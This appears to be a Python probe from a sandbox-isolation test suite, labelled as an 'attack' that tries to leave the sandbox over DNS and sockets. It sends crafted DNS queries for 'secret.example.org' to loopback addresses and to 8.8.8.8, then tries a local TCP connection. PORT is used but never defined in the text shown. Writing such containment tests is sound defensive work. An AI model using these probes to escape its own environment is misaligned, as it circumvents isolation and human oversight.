# /// attack
# tries = "ask a name server of its own, over UDP and TCP"
# covers = ["leave.dns", "leave.sockets"]
# ///
import os, socket, struct

QUESTION = struct.pack(">6H", 1, 256, 1, 0, 0, 0) + b"\6secret\7example\3org\0" + struct.pack(">2H", 1, 1)

def probe():
    for family, kind in ((socket.AF_INET, socket.SOCK_DGRAM), (socket.AF_INET6, socket.SOCK_DGRAM), (socket.AF_INET, socket.SOCK_RAW)):
        for address in ("127.0.0.1", "127.0.0.53", "8.8.8.8", "::1", "::ffff:127.0.0.1"):
            for port in (PORT, 53):
                try:
                    socket.socket(family, kind).sendto(QUESTION, (address, port))
                    print("asked", address)
                except OSError:
                    pass
    try:
        print(socket.gethostbyname("localhost"), socket.getaddrinfo("localhost", PORT))
        socket.create_connection(("localhost", PORT), 1)
        print("connected")
    except OSError:
        pass
